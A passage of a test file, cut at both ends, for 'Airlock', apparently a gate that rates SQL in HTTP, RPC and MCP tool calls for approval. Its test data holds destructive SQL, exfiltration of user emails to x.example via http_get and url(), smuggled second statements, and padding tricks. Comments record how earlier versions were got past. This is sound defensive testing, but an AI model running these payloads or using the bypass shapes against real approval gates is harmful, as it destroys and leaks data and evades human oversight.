    (x: string) => `SELECT * FROM sqlite_scan ( '/data/${x}.db' , 'users' )`,
    (x: string) => `SELECT SYSTEM$CANCEL_ALL_QUERIES ( ${x} )`,
    (x: string) => `SELECT * FROM fn_xe_file_target_read_file ( '\\\\x.example\\${x}\\*.xel' , NULL , NULL , NULL )`,
  );
  await fc.assert(
    fc.asyncProperty(calls, ident, noise, async (c, x, n) => {
      const sql = render(c(x), n);
      const { description, decision } = await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql }) });
      if (decision.approval?.risk !== 'critical') throw new Error(`${sql}: ${decision.action} ${decision.rule} ${JSON.stringify(description.sql)}`);
    }),
    { numRuns: runs, ...seed },
  );
  // Controls: columns named like them are columns; a PostgreSQL service's own function of such a name is its own (a write, not critical).
  const column = await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql: 'SELECT url, file, remote FROM links WHERE id = 1' }) });
  t.not(column.decision.approval?.risk, 'critical', 'columns named url, file, remote');
  const own = await decide({ url: SUPABASE, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: "SELECT file('report')" }) });
  t.not(own.decision.approval?.risk, 'critical', "a PostgreSQL service's own file()");
});

t.test('SQL an MCP tool takes under any SQL-carrying argument, or in a list of statements, is read', async (t) => {
  // Neon's `run_sql_transaction {params: {sqlStatements: […]}}` and `prepare_database_migration
  // {params: {migrationSql}}`, SQLite servers' `{queries: […]}`: a DROP there was a high tool call
  // (grantable by a SELECT's grant). A second argument that is not SQL (a field the server
  // ignores) left the whole call unparsed, and the DROP beside it high, not critical.
  const MCP = `https://${MCP_HOST}/mcp`;
  const shapes = fc.constantFrom(
    (d: string) => ({ name: 'run_sql_transaction', arguments: { params: { projectId: 'p', sqlStatements: ['SELECT 1', d] } } }),
    (d: string) => ({ name: 'prepare_database_migration', arguments: { params: { projectId: 'p', migrationSql: d } } }),
    (d: string) => ({ name: 'write_query', arguments: { queries: [d] } }),
    (d: string) => ({ name: 'run', arguments: { SQL_Statement: d } }),
    (d: string) => ({ name: 'batch', arguments: { statements: [{ sql: 'SELECT 1' }, { sql: d }] } }),
    (d: string) => ({ name: 'execute_sql', arguments: { project_id: 'p', query: d, sql: 'weekly report' } }),
    (d: string) => ({ name: 'execute_sql', arguments: { project_id: 'p', query: 'all customers', params: { sql: d } } }),
    // Ninth pass: two objects down or in a list under another name was not read (high, not critical).
    (d: string) => ({ name: 'run', arguments: { input: { db: { sql: d } } } }),
    (d: string) => ({ name: 'run', arguments: { steps: [{ kind: 'sql', options: { query: d } }] } }),
    (d: string) => ({ name: 'run', arguments: { a: { b: { c: { d: { statements: [d] } } } } } }),
  );
  const destructive = fc.constantFrom((x: string) => `DROP TABLE ${x}`, (x: string) => `DELETE FROM ${x}`, (x: string) => `TRUNCATE ${x}`, (x: string) => `UPDATE ${x} SET a = 1`);
  await fc.assert(
    fc.asyncProperty(shapes, destructive, ident, async (shape, d, x) => {
      const params = shape(d(x));
      const { description, decision } = await decide({ url: MCP, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params }) });
      if (decision.approval?.risk !== 'critical') throw new Error(`${JSON.stringify(params)}: ${decision.action} ${decision.rule} ${JSON.stringify(description.mcp?.sql)}`);
    }),
    { numRuns: runs, ...seed },
  );
  // Controls: a list of reads and a search phrase stay ordinary tool calls (high, not critical).
  for (const params of [{ name: 'run_sql_transaction', arguments: { params: { projectId: 'p', sqlStatements: ['SELECT 1', 'SELECT name FROM users WHERE id = 2'] } } }, { name: 'search_docs', arguments: { query: 'open bugs' } }]) {
    const { decision } = await decide({ url: MCP, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params }) });
    t.equal(decision.approval?.risk, 'high', `${params.name}: an ordinary tool call`);
  }
});

t.test('PostgREST RPC calls that run their argument are read as PostgreSQL on any host', async (t) => {
  // Only Supabase's RPC calls were read: `POST …/rpc/exec_sql {query: "DROP TABLE …"}` to a
  // self-hosted PostgREST or Neon's Data API was a plain write, covered by a grant for a SELECT.
  const urls = [`https://${SQL_HOST}/rest/v1/rpc/exec_sql`, `https://${SQL_HOST}/rpc/run_query`, 'https://ep-cool-darkness-123456.apirest.us-east-2.aws.neon.tech/neondb/rest/v1/rpc/exec_sql', 'https://abcdefghijklmnopqrst.supabase.co/rest/v1/rpc/exec'];
  // The function's parameter names are its author's: `sql_text`, `stmt` were not read even on Supabase.
  const bodies = fc.constantFrom(
    (sql: string) => ({ type: 'application/json', body: JSON.stringify({ query: sql }) }),
    (sql: string) => ({ type: 'application/json', body: JSON.stringify({ sql_query: sql }) }),
    (sql: string) => ({ type: 'application/json', body: JSON.stringify({ sql_text: sql, dry_run: false }) }),
    (sql: string) => ({ type: 'application/json', body: JSON.stringify({ stmt: sql }) }),
    (sql: string) => ({ type: 'application/json', body: JSON.stringify([{ query: 'SELECT 1' }, { query: sql }]) }),
    (sql: string) => ({ type: 'application/x-www-form-urlencoded', body: `statement=${encodeURIComponent(sql)}` }),
    (sql: string) => ({ type: 'text/plain', body: sql }),
    // Tenth pass: a function named for SQL takes it under any name (`exec_sql {cmd}`): a plain call before.
    (sql: string) => ({ type: 'application/json', body: JSON.stringify({ cmd: sql }) }),
    (sql: string) => ({ type: 'application/x-www-form-urlencoded', body: `p_text=${encodeURIComponent(sql)}&dry=false` }),
    // Thirteenth pass: PostgREST passes a body whole to a function of one unnamed parameter: a JSON
    // string (json), a JSON array of texts; bytea and xml bodies to a function named for SQL are not read.
    (sql: string) => ({ type: 'application/json', body: JSON.stringify(sql) }),
    (sql: string) => ({ type: 'application/json', body: JSON.stringify(['SELECT 1', sql]) }),
    (sql: string) => ({ type: 'application/octet-stream', body: sql }),
    (sql: string) => ({ type: 'text/xml', body: `<q>${sql}</q>` }),
  );
  await fc.assert(
    fc.asyncProperty(fc.constantFrom(...urls), bodies, fc.constantFrom((x: string) => `DROP TABLE ${x}`, (x: string) => `DELETE FROM ${x}`, (x: string) => `TRUNCATE ${x}`), ident, async (url, b, d, x) => {
      const { type, body } = b(d(x));
      // `rpc/exec` is not named for SQL: only its SQL-named arguments are SQL.
      fc.pre(!(url.endsWith('/rpc/exec') && (body.startsWith('{"cmd"') || body.startsWith('p_text=') || body.startsWith('[') || !type.includes('json') && !type.includes('form') && type !== 'text/plain')));
      const { description } = await decide({ url, headers: [['Content-Type', type]], body });
      // Read as PostgreSQL, or (a body PostgREST passes whole, unread) unparsed: critical either way.
      if (!description.sql?.destructive || (description.sql.parsed && description.sql.dialect !== 'postgresql')) throw new Error(`${body} to ${url}: ${JSON.stringify(description.sql)}`);
    }),
    { numRuns: runs, ...seed },
  );
  const { decision } = await decide({ url: urls[0]!, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: 'DROP TABLE users' }) });
  t.equal(decision.approval?.risk, 'critical', 'held critical on an allowed host');
  const read = await decide({ url: urls[0]!, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: 'SELECT name FROM users WHERE id = 1' }) });
  t.not(read.decision.approval?.risk, 'critical', 'a read stays ordinary');
  const search = await decide({ url: urls[3]!, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ term: 'drop table tennis' }) });
  t.not(search.decision.approval?.risk, 'critical', 'an argument not named for SQL is not SQL');
  // …unless the function is named for SQL: then every text argument that reads as statements is SQL, by POST or GET.
  const named = await decide({ url: `https://${SQL_HOST}/rest/v1/rpc/run_sql`, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ command: 'DROP TABLE users' }) });
  t.equal(named.decision.approval?.risk, 'critical', 'run_sql {command}');
  const byGet = await decide({ method: 'GET', url: `https://abcdefghijklmnopqrst.supabase.co/rest/v1/rpc/exec_sql?cmd=${encodeURIComponent("SELECT dblink_exec('dbname=postgres', 'DROP TABLE users')")}` });
  t.equal(byGet.decision.approval?.risk, 'critical', 'GET exec_sql?cmd=');
  const plain = await decide({ url: `https://${SQL_HOST}/rest/v1/rpc/run_sql`, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ label: 'weekly report' }) });
  t.not(plain.decision.approval?.risk, 'critical', 'text that reads as no statement stays an argument');
  // A bytea upload to a function not named for SQL stays an ordinary call.
  const upload = await decide({ url: 'https://abcdefghijklmnopqrst.supabase.co/rest/v1/rpc/store_avatar', headers: [['Content-Type', 'application/octet-stream']], body: Buffer.from([0x89, 0x50, 0x4e, 0x47]) });
  t.not(upload.decision.approval?.risk, 'critical', 'a bytea body to store_avatar');
});

t.test('PostgREST RPC called with GET or HEAD: the SQL in its URL arguments is read', async (t) => {
  // Ninth pass: `GET …/rpc/exec_sql?query=SELECT dblink_exec('…', 'DROP TABLE users')` was an
  // allowed read. PostgREST takes a GET's arguments from the URL and runs it READ ONLY, which stops
  // neither dblink_exec (a new connection, its own transaction), http_get (rows sent out) nor
  // pg_terminate_backend.
  const urls = [`https://${SQL_HOST}/rest/v1/rpc/exec_sql`, `https://${SQL_HOST}/rpc/run_query`, 'https://abcdefghijklmnopqrst.supabase.co/rest/v1/rpc/exec'];
  const names = fc.constantFrom('query', 'sql', 'sql_text', 'Stmt', 'sqlQuery', 'statement');
  const bad = fc.constantFrom(
    (x: string) => `SELECT dblink_exec ( 'dbname=postgres' , 'DROP TABLE ${x}' )`,
    (x: string) => `SELECT http_get ( 'https://x.example/?d=' || ( SELECT string_agg ( email , ',' ) FROM ${x} ) )`,
    () => `SELECT pg_terminate_backend ( pid ) FROM pg_stat_activity`,
    (x: string) => `SELECT 1 ; DROP TABLE ${x}`,
  );
  await fc.assert(
    fc.asyncProperty(fc.constantFrom(...urls), fc.constantFrom('GET', 'HEAD'), names, bad, ident, async (url, method, name, d, x) => {
      const full = `${url}?select=*&${name}=${encodeURIComponent(d(x))}`;
      const { description, decision } = await decide({ method, url: full, body: '' });
      if (decision.approval?.risk !== 'critical' || !description.sql?.destructive) throw new Error(`${method} ${full}: ${decision.action} ${JSON.stringify(description.sql)}`);
    }),
    { numRuns: Math.min(runs, 16), ...seed },
  );
  // Controls: a search argument, a filter and a read stay allowed GETs.
  for (const q of ['query=red%20shoes', 'query=eq.5&select=*', `query=${encodeURIComponent('SELECT name FROM users WHERE id = 1')}`]) {
    const { decision } = await decide({ method: 'GET', url: `${urls[2]}?${q}`, body: '' });
    t.equal(decision.action, 'allow', `GET ?${q}`);
  }
});

t.test('an operator nothing proves built in is a call of a function someone created, not a read', async (t) => {
  // `SELECT 1 === 1` and `OPERATOR(public.=)` call whatever function the operator names (written
  // by anyone who could create it): they were allowed as reads, and a grant for `SELECT 1` covered them.
  for (const e of endpoints.postgresql) {
    for (const sql of ['SELECT 1 === 1', 'SELECT a FROM t WHERE b OPERATOR(public.=) 1', 'SELECT a FROM t WHERE b = ANY (SELECT c FROM u) AND b !== 2']) {
      const { description, decision } = await decide({ url: e.url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ [e.key]: sql }) });
      t.not(decision.action, 'allow', `${sql} on ${e.url}`);
      t.ok(description.sql?.statements[0]?.functions?.some((f) => f.startsWith('operator(')), 'the operator is named in the scope');
    }
    // Controls: PostgreSQL's own operators and the common extensions' (pgvector, pg_trgm, PostGIS, JSON) stay reads.
    for (const sql of ["SELECT * FROM items ORDER BY embedding <=> '[1,2,3]' LIMIT 5", "SELECT * FROM t WHERE tags @> ARRAY['a'] AND doc ->> 'k' = 'v' AND name % 'x'", 'SELECT a FROM t WHERE b OPERATOR(pg_catalog.=) 1', 'SELECT a FROM t WHERE geom && box AND x = ANY (ARRAY[1, 2])']) {
      const { decision } = await decide({ url: e.url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ [e.key]: sql }) });
      t.equal(decision.action, 'allow', `${sql} on ${e.url}`);
    }
  }
});

t.test('`{query}` to any path is SQL when a grammar reads statements in it; an SQL path is one whatever its suffix', async (t) => {
  // `/v1/query;jsessionid=…` and `/v1/query.json` route to `/v1/query` on Java and Rails servers,
  // and `/api/v1/run` may run SQL too: `{query: "DROP TABLE …"}` there was a plain POST (medium,
  // covered by a grant for a SELECT to the same URL).
  const paths = fc.constantFrom('/v1/query;jsessionid=A1', '/v1/query.json', '/v1/statements.xml', '/api/v1/run', '/');
  const destructive = fc.constantFrom((x: string) => `DROP TABLE ${x}`, (x: string) => `DELETE FROM ${x}`, (x: string) => `TRUNCATE ${x}`, (x: string) => `SELECT 1 /*! ; DROP TABLE ${x} */`);
  await fc.assert(
    fc.asyncProperty(paths, fc.constantFrom('query', 'statement'), destructive, ident, async (p, key, d, x) => {
      const { description, decision } = await decide({ url: `https://${SQL_HOST}${p}`, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ [key]: d(x) }) });
      if (decision.approval?.risk !== 'critical') throw new Error(`${key}: ${d(x)} to ${p}: ${decision.action} ${decision.rule} ${JSON.stringify(description.sql)}`);
    }),
    { numRuns: runs, ...seed },
  );
  // Twelfth pass: JSON-RPC calls that run SQL (SurrealDB's `{method: "query", params: [sql, vars]}`,
  // a database's `{method: "db.execute", params: {sql}}`, a batch of them) were medium plain POSTs.
  const rpcs = fc.constantFrom(
    (sql: string) => ({ id: 1, method: 'query', params: [sql, {}] }),
    (sql: string) => ({ jsonrpc: '2.0', id: 'a', method: 'db.execute', params: { sql } }),
    (sql: string) => ({ jsonrpc: '2.0', id: 2, method: 'sql/run_sql', params: [sql] }),
    (sql: string) => [{ jsonrpc: '2.0', id: 1, method: 'query', params: ['SELECT 1'] }, { jsonrpc: '2.0', id: 2, method: 'exec', params: { query: sql } }],
    // Thirteenth pass: a method that runs SQL takes it under any name or place.
    (sql: string) => ({ jsonrpc: '2.0', id: 3, method: 'sql', params: { text: sql } }),
    (sql: string) => ({ jsonrpc: '2.0', id: 4, method: 'db.execute', params: [{ sql, args: [] }] }),
    (sql: string) => ({ id: 5, method: 'query', params: { query: { text: sql, values: [] } } }),
    (sql: string) => ({ jsonrpc: '2.0', id: 6, method: 'run', params: { db: 'main', input: sql } }),
  );
  await fc.assert(
    fc.asyncProperty(fc.constantFrom('/rpc', '/', '/api'), rpcs, destructive, ident, async (p, rpc, d, x) => {
      const { description, decision } = await decide({ url: `https://${SQL_HOST}${p}`, headers: [['Content-Type', 'application/json']], body: JSON.stringify(rpc(d(x))) });
      if (decision.approval?.risk !== 'critical') throw new Error(`${JSON.stringify(rpc(d(x)))} to ${p}: ${decision.action} ${decision.rule} ${JSON.stringify(description.sql)}`);
    }),
    { numRuns: Math.min(runs, 24), ...seed },
  );
  for (const rpc of [{ id: 1, method: 'query', params: ['red shoes'] }, { id: 1, method: 'query', params: ['SELECT name FROM users WHERE id = 1'] }, { id: 1, method: 'notify', params: ['DROP TABLE users'] }]) {
    const { decision } = await decide({ url: `https://${SQL_HOST}/rpc`, headers: [['Content-Type', 'application/json']], body: JSON.stringify(rpc) });
    t.equal(decision.approval?.risk, 'medium', `${JSON.stringify(rpc)}: an ordinary POST`);
  }
  // Controls: words that no grammar reads as statements are not SQL; a read is an ordinary POST.
  for (const query of ['red shoes size 42', 'who wrote the report?', 'SELECT name FROM users WHERE id = 1']) {
    const { description, decision } = await decide({ url: `https://${SQL_HOST}/search`, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query }) });
    t.equal(decision.approval?.risk, 'medium', `${query}: an ordinary POST`);
    t.equal(description.sql?.parsed ?? true, true, 'never unparsed SQL');
  }
});

t.test('a WHERE clause decided by the values the request binds (D1 and Neon params) is judged with those values', async (t) => {
  // `email LIKE ?` with `["%"]` deletes every row as `email LIKE '%'` does; the sample run bound
  // only a value of its own (or NULL), so the parameter form was a medium write.
  const wheres: Array<[(c: string, p: (n: number) => string) => string, unknown[]]> = [
    [(c, p) => `${c} LIKE ${p(1)}`, ['%']],
    [(c, p) => `${c} > ${p(1)}`, [-1e12]],
    [(c, p) => `${c} >= ${p(2)} OR ${c} = ${p(1)}`, [7, -1e12]],
    [(c, p) => `${c} = ${p(1)} OR ${p(2)}`, [1, true]],
    [(c, p) => `( ${c} LIKE ${p(1)} ) IS NOT FALSE`, ['%%']],
    // Twelfth pass: numbers sent as text, as PostgreSQL's wire protocol and Neon's driver send every
    // value (PostgreSQL 16 reads `0x` and `_` too); SQLite converts text compared with a numeric column.
    [(c, p) => `${c} > ${p(1)}`, ['-1000000000000']],
    [(c, p) => `${c} >= ${p(1)}`, [' -0x1_0000_0000_0000 ']],
    [(c, p) => `${c} > ${p(1)}`, ['-Infinity']],
  ];
  // Tenth pass: every other way a request binds values (Supabase's Management API `parameters`, a
  // `{sql, params}` of unknown dialect, Hrana's typed `args`/`named_args`, Snowflake's `bindings`,
  // Databricks' and BigQuery's named parameters) was never bound: medium writes.
  const typed = (v: unknown) => (typeof v === 'number' ? { type: Number.isInteger(v) ? 'integer' : 'float', value: Number.isInteger(v) ? String(v) : v } : typeof v === 'boolean' ? { type: 'integer', value: v ? '1' : '0' } : { type: 'text', value: v });
  const MGMT = 'https://api.supabase.com/v1/projects/abcdefghijklmnopqrst/database/query';
  const places: Array<{ url: string; p: (n: number) => string; body: (sql: string, params: unknown[]) => unknown }> = [
    { url: D1, p: (n) => `?${n}`, body: (sql, params) => ({ sql, params }) },
    { url: NEON, p: (n) => `$${n}`, body: (query, params) => ({ query, params }) },
    { url: MGMT, p: (n) => `$${n}`, body: (query, parameters) => ({ query, parameters }) },
    { url: GENERIC, p: (n) => `?${n}`, body: (sql, params) => ({ sql, params }) },
    { url: `https://${SQL_HOST}/v2/pipeline`, p: (n) => `?${n}`, body: (sql, params) => ({ requests: [{ type: 'execute', stmt: { sql, args: params.map(typed) } }] }) },
    { url: `https://${SQL_HOST}/v2/pipeline`, p: (n) => `:v${n}`, body: (sql, params) => ({ requests: [{ type: 'execute', stmt: { sql, named_args: params.map((v, i) => ({ name: `:v${i + 1}`, value: typed(v) })).reverse() } }] }) },
    { url: `https://${SQL_HOST}/api/v2/statements`, p: (n) => `?${n}`, body: (statement, params) => ({ statement, bindings: Object.fromEntries(params.map((v, i) => [String(i + 1), { type: typeof v === 'string' ? 'TEXT' : 'FIXED', value: String(v) }])) }) },
    { url: `https://${SQL_HOST}/api/2.0/sql/statements`, p: (n) => `:v${n}`, body: (statement, params) => ({ statement, warehouse_id: 'w', parameters: params.map((value, i) => ({ name: `v${i + 1}`, value })).reverse() }) },
    { url: `https://${SQL_HOST}/bigquery/v2/projects/p/queries`, p: (n) => `@v${n}`, body: (query, params) => ({ query, useLegacySql: false, queryParameters: params.map((value, i) => ({ name: `v${i + 1}`, parameterType: { type: 'STRING' }, parameterValue: { value } })) }) },
  ];
  await fc.assert(
    fc.asyncProperty(fc.constantFrom(...wheres), fc.constantFrom(...places), fc.constantFrom('DELETE', 'UPDATE'), ident, ident, async ([w, params], e, verb, tbl, col) => {
      fc.pre(tbl !== col);
      // Snowflake and Databricks take values as text: a boolean is bound as one there.
      const where = w(col, e.p);
      const sql = verb === 'DELETE' ? `DELETE FROM ${tbl} WHERE ${where}` : `UPDATE ${tbl} SET ${col} = 0 WHERE ${where}`;
      const { description, decision } = await decide({ url: e.url, headers: [['Content-Type', 'application/json']], body: JSON.stringify(e.body(sql, params)) });
      if (decision.approval?.risk !== 'critical') throw new Error(`${sql} ${JSON.stringify(params)} on ${e.url}: ${decision.action} ${decision.rule} ${JSON.stringify(description.sql)}`);
    }),
    { numRuns: runs, ...seed },
  );
  // Controls: values that name rows keep the statement an ordinary write.
  for (const [url, key, sql, params] of [[D1, 'sql', 'DELETE FROM users WHERE email LIKE ?', ['a%']], [D1, 'sql', 'DELETE FROM users WHERE id = ?', [5]], [NEON, 'query', 'DELETE FROM users WHERE id = $1', [3]], [NEON, 'query', 'DELETE FROM users WHERE id = $1', ['-1000000000000']], [NEON, 'query', 'DELETE FROM users WHERE id > $1', ['1e6']], [NEON, 'query', "UPDATE users SET a = 1 WHERE name LIKE $1", ['bob%']]] as Array<[string, string, string, unknown[]]>) {
    const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ [key]: sql, params }) });
    t.equal(decision.approval?.risk, 'medium', `${sql} ${JSON.stringify(params)}: a write`);
  }
  for (const e of places.slice(2)) {
    const body = e.body(`DELETE FROM users WHERE email LIKE ${e.p(1)}`, ['a@b.example']);
    const { decision } = await decide({ url: e.url, headers: [['Content-Type', 'application/json']], body: JSON.stringify(body) });
    t.equal(decision.approval?.risk, 'medium', `${e.url} ${JSON.stringify(body)}: a write`);
  }
  // Two lists of values in one statement: each server binds its own, so neither reading stands.
  const two = await decide({ url: MGMT, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: 'DELETE FROM users WHERE email LIKE $1', params: ['a'], parameters: ['%'] }) });
  t.equal(two.decision.approval?.risk, 'critical', 'params beside parameters');
});

t.test('SQL in the URL is read, whatever the method: `?sql=`, `?query=` to an SQL path, ClickHouse behind another name', async (t) => {
  // A GET's SQL was never read (an allowed host's GET was allowed, `?sql=DROP TABLE …` included),
  // nor `POST /?query=…` to ClickHouse behind a proxy on 443 without X-ClickHouse headers.
  const shapes = fc.constantFrom(
    (sql: string) => ({ method: 'GET', url: `https://${SQL_HOST}/v1/sql?sql=${encodeURIComponent(sql)}`, body: '' }),
    (sql: string) => ({ method: 'GET', url: `https://${SQL_HOST}/api/query?format=json&query=${encodeURIComponent(sql)}`, body: '' }),
    (sql: string) => ({ method: 'GET', url: `https://${SQL_HOST}:8123/?query=${encodeURIComponent(sql)}`, body: '' }),
    (sql: string) => ({ method: 'POST', url: `https://${SQL_HOST}/?database=db&query=${encodeURIComponent(sql)}`, body: '' }),
    // The parameter, a line feed, then the body: one statement to ClickHouse.
    (sql: string) => ({ method: 'POST', url: `https://${SQL_HOST}/?query=${encodeURIComponent(sql.split(' ')[0]!)}`, body: sql.split(' ').slice(1).join(' ') }),
    // Ninth pass: InfluxDB's `q` (`POST /query?q=…`, a form's `q`) on an SQL path was not read.
    (sql: string) => ({ method: 'POST', url: `https://${SQL_HOST}/query?q=${encodeURIComponent(sql)}`, body: '' }),
    (sql: string) => ({ method: 'GET', url: `https://${SQL_HOST}/v1/query?db=x&q=${encodeURIComponent(sql)}`, body: '' }),
  );
  const bad = fc.constantFrom((x: string) => `DROP TABLE ${x}`, (x: string) => `TRUNCATE TABLE ${x}`, (x: string) => `SELECT * FROM url ( 'https://x.example/?d=' , CSV , 'a String' ) AS ${x}`);
  await fc.assert(
    fc.asyncProperty(shapes, bad, ident, async (shape, d, x) => {
      const r = shape(d(x));
      const { description, decision } = await decide({ method: r.method, url: r.url, headers: [['Content-Type', 'text/plain']], body: r.body });
      if (decision.approval?.risk !== 'critical') throw new Error(`${r.method} ${r.url} ${r.body}: ${decision.action} ${decision.rule} ${JSON.stringify(description.sql)}`);
    }),
    { numRuns: runs, ...seed },
  );
  // Controls: reads in a GET stay allowed, ClickHouse-only reads are not failed closed, a search stays a search.
  for (const url of [`https://${SQL_HOST}/v1/sql?sql=${encodeURIComponent('SELECT name FROM users WHERE id = 1')}`, `https://${SQL_HOST}:8123/?query=${encodeURIComponent('SHOW TABLES')}`, `https://${SQL_HOST}/search?query=${encodeURIComponent('drop table tennis')}`, `https://${SQL_HOST}/query?q=${encodeURIComponent('red shoes')}`]) {
    const { decision } = await decide({ method: 'GET', url, body: '' });
    t.equal(decision.action, 'allow', `GET ${url}`);
  }
  const rows = await decide({ url: `https://${SQL_HOST}/?query=${encodeURIComponent('INSERT INTO logs FORMAT CSV')}`, headers: [['Content-Type', 'text/plain']], body: '1,2\n' });
  t.not(rows.decision.approval?.risk, 'critical', 'rows after INSERT … FORMAT CSV');
});

t.test('SQL unread for one of Airlock\'s limits is SQL held at the worst, in every place that carries SQL only sometimes', async (t) => {
  // Ninth pass: `GET /report?sql=DROP TABLE users; -- ` and 6,000 dashes (5.9 KB, past the lexing
  // cost bound) was an allowed GET: text unread for a limit counted as "no statements", so not SQL.
  // Also `?query=` to an SQL path, ClickHouse, `{query}` to any path, a GraphQL `executeSql(sql:)`
  // and a PostgREST RPC called with GET.
  const pads = fc.constantFrom(' -- ' + '-'.repeat(6_000), ' /* ' + '+'.repeat(6_000) + ' */', ' -- ' + '*/'.repeat(3_000));
  const shapes = fc.constantFrom(
    (sql: string) => ({ method: 'GET', url: `https://${SQL_HOST}/report?sql=${encodeURIComponent(sql)}`, body: '' }),
    (sql: string) => ({ method: 'GET', url: `https://${SQL_HOST}/v1/query?query=${encodeURIComponent(sql)}`, body: '' }),
    (sql: string) => ({ method: 'GET', url: `https://${SQL_HOST}:8123/?query=${encodeURIComponent(sql)}`, body: '' }),
    (sql: string) => ({ method: 'GET', url: `https://abcdefghijklmnopqrst.supabase.co/rest/v1/rpc/exec_sql?query=${encodeURIComponent(sql)}`, body: '' }),
    (sql: string) => ({ method: 'POST', url: `https://${SQL_HOST}/api/v1/run`, body: JSON.stringify({ query: sql }) }),
    (sql: string) => ({ method: 'POST', url: `https://${SQL_HOST}/graphql`, body: JSON.stringify({ query: 'mutation($s: String!) { executeSql(sql: $s) { ok } }', variables: { s: sql } }) }),
  );
  const bad = fc.constantFrom((x: string) => `DROP TABLE ${x} ;`, (x: string) => `SELECT dblink_exec ( '' , 'DROP TABLE ${x}' ) ;`);
  await fc.assert(
    fc.asyncProperty(shapes, bad, pads, ident, async (shape, d, pad, x) => {
      const r = shape(d(x) + pad);
      const { description, decision } = await decide({ method: r.method, url: r.url, headers: [['Content-Type', 'application/json']], body: r.body });
      if (decision.approval?.risk !== 'critical') throw new Error(`${r.method} ${r.url.slice(0, 120)}: ${decision.action} ${JSON.stringify(description.sql)?.slice(0, 300)}`);
    }),
    { numRuns: Math.min(runs, 12), ...seed },
  );
  // Controls: a search phrase stays a search, with or without a long run of dashes.
  for (const q of ['red shoes', 'red shoes -- ' + '-'.repeat(40)]) {
    const { decision } = await decide({ method: 'GET', url: `https://${SQL_HOST}/search?query=${encodeURIComponent(q)}`, body: '' });
    t.equal(decision.action, 'allow', q.slice(0, 20));
  }
});

t.test('a WHERE only SQLite\'s sample run judges is held when SQLite cannot read the text for one of Airlock\'s limits', async (t) => {
  // Ninth pass: `DELETE FROM users WHERE id > 0 OR id <= 0` is critical on Supabase and Neon (SQLite's
  // sample run), but behind a statement SQLite is not made to read (a chain of CTEs expanding past
  // 128 copies, 300 nested parentheses) PostgreSQL's reading stood alone: a medium write.
  const prefixes = [
    'WITH ' + Array.from({ length: 9 }, (_, i) => `c${i} AS (SELECT x FROM c${i + 1} UNION ALL SELECT x FROM c${i + 1})`).join(', ') + ', c9 AS (SELECT 1 AS x) SELECT count(*) FROM c0; ',
    'SELECT ' + '('.repeat(300) + '1' + ')'.repeat(300) + '; ',
  ];
  const wheres = fc.constantFrom((c: string) => `${c} > 0 OR ${c} <= 0`, (c: string) => `NOT (${c} = 1 AND ${c} = 2)`, (c: string) => `${c} ~~ '%'`, (c: string) => `${c} LIKE '%' ESCAPE '!'`);
  await fc.assert(
    fc.asyncProperty(fc.constantFrom(SUPABASE, NEON), fc.constantFrom(...prefixes), wheres, fc.constantFrom('DELETE FROM', 'UPDATE'), ident, ident, async (url, pre, w, verb, x, c) => {
      const stmt = verb === 'UPDATE' ? `UPDATE ${x} SET ${c} = 1 WHERE ${w(c)}` : `DELETE FROM ${x} WHERE ${w(c)}`;
      const { description, decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: pre + stmt }) });
      if (decision.approval?.risk !== 'critical') throw new Error(`${stmt} to ${url}: ${decision.action} ${JSON.stringify(description.sql)?.slice(0, 300)}`);
    }),
    { numRuns: Math.min(runs, 8), ...seed },
  );
  const narrow = await decide({ url: SUPABASE, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: 'SELECT 1; DELETE FROM users WHERE id = 5' }) });
  t.not(narrow.decision.approval?.risk, 'critical', 'a narrow DELETE stays a write');
});

t.test('a WHERE only SQLite\'s sample run judges is judged statement by statement beside PostgreSQL\'s own syntax', async (t) => {
  // Ninth pass: `DELETE FROM users WHERE id > 0 OR id <= 0; SELECT 1::int` to Supabase or Neon was a
  // medium write: SQLite refused the whole text (`::`), so its sample run was dropped and
  // PostgreSQL's reading stood alone; likewise `RETURNING id::text`, `DELETE FROM ONLY`, `USING`.
  const wheres = fc.constantFrom((c: string) => `${c} > 0 OR ${c} <= 0`, (c: string) => `NOT (${c} = 1 AND ${c} = 2)`, (c: string) => `${c}::bigint > -1e18`, (c: string) => `${c} = (SELECT ${c})`);
  const wraps = fc.constantFrom(
    (d: string) => `${d}; SELECT 1::int`,
    (d: string) => `SELECT now()::date; ${d}`,
    (d: string) => `${d} RETURNING id::text`,
    (d: string) => d.replace('DELETE FROM ', 'DELETE FROM ONLY ').replace(/^UPDATE /, 'UPDATE ONLY '),
  );
  await fc.assert(
    fc.asyncProperty(fc.constantFrom(SUPABASE, NEON), wheres, wraps, fc.constantFrom('DELETE', 'UPDATE'), ident, ident, async (url, w, wrap, verb, x, c) => {
      const sql = wrap(verb === 'UPDATE' ? `UPDATE ${x} SET ${c} = 1 WHERE ${w(c)}` : `DELETE FROM ${x} WHERE ${w(c)}`);
      const { description, decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: sql }) });
      if (decision.approval?.risk !== 'critical') throw new Error(`${sql} to ${url}: ${decision.action} ${JSON.stringify(description.sql)?.slice(0, 300)}`);
    }),
    { numRuns: Math.min(runs, 10), ...seed },
  );
  // Controls: WHERE clauses PostgreSQL proves narrow stay writes beside its own syntax.
  for (const sql of ['DELETE FROM users WHERE id = $1::uuid', "UPDATE users SET name = 'x' WHERE id = 5 RETURNING id::text", 'DELETE FROM ONLY users WHERE id IN (1, 2, 3); SELECT 1::int', "DELETE FROM users WHERE name ~ '^a' RETURNING id::text"]) {
